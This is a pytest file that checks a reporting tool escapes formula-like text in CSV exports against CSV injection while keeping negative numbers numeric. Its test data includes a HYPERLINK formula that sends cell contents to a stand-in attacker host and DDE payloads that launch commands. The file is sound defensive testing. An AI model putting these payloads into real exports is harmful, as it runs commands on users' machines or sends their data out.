"""What a build writes cannot run: a CSV a reader opens in a spreadsheet shows every text as text,
however it starts, while its numbers stay numbers (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv

import pytest

from council_reports.spreadsheet import FORMULA_STARTS, frame_to_csv, spreadsheet_text
from tests.conftest import copy_project

from .test_injection import ASIAN, build, set_in_csv

pytestmark = pytest.mark.slow

# As a return or an EES file might hold them: each would run in Excel as written.
FORMULAS = {
    "la_name": '=HYPERLINK("https://evil.example/?"&A1,"Bath and North East Somerset")',
    "region_name": "+cmd|' /C calc'!A0",
    "breakdown": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_text_that_starts_like_a_formula_is_text_and_numbers_stay_numbers():
    import pandas as pd

    frame = pd.DataFrame(
        {"=Label": ["-2+3", "South West", "\tx", "c"], "Change": ["+15.7", "-1.5", "-5%", "x"]}
    )
    rows = list(csv.reader(frame_to_csv(frame).splitlines()))
    assert rows == [
        ["'=Label", "Change"],
        ["'-2+3", "+15.7"],
        ["South West", "-1.5"],
        ["'\tx", "-5%"],
        ["c", "x"],
    ]
    assert (
        spreadsheet_text("-") == "'-"
        and spreadsheet_text("-e5") == "'-e5"
        and spreadsheet_text("1e5") == "1e5"
    )


def test_a_build_writes_labels_and_la_names_as_text_in_every_csv(tmp_path, monkeypatch, capsys):
    root = copy_project(tmp_path)
    data = root / "data" / "attendance"
    (data / "published.csv").unlink(missing_ok=True)  # names facts after the LA's name
    for path in data.rglob("*.csv"):
        if path.name.endswith(".meta.csv"):
            continue
        set_in_csv(path, "la_name", FORMULAS["la_name"], lambda row: row["old_la_code"] == "800")
        set_in_csv(
            path, "region_name", FORMULAS["region_name"], lambda r: r["region_code"] == "E12000009"
        )
        set_in_csv(path, "breakdown", FORMULAS["breakdown"], lambda r: r["breakdown"] == ASIAN)
    target = build(root, "attendance", "2023-24", monkeypatch, capsys)
    cells = {}
    for table in sorted((target / "tables").glob("*.csv")):
        with table.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                cells |= {cell: table.name for cell in row}
    for payload in FORMULAS.values():  # each is there, as text
        assert any(payload in cell for cell in cells), payload
    running = [c for c in cells if c.startswith(FORMULA_STARTS) and spreadsheet_text(c) != c]
    assert not running, running[:5]
    negative = [c for c in cells if c.startswith("-") and c[1:2].isdigit()]
    assert negative, "no negative number left to check"  # a change still reads as a number
    assert all(spreadsheet_text(c) == c for c in negative)
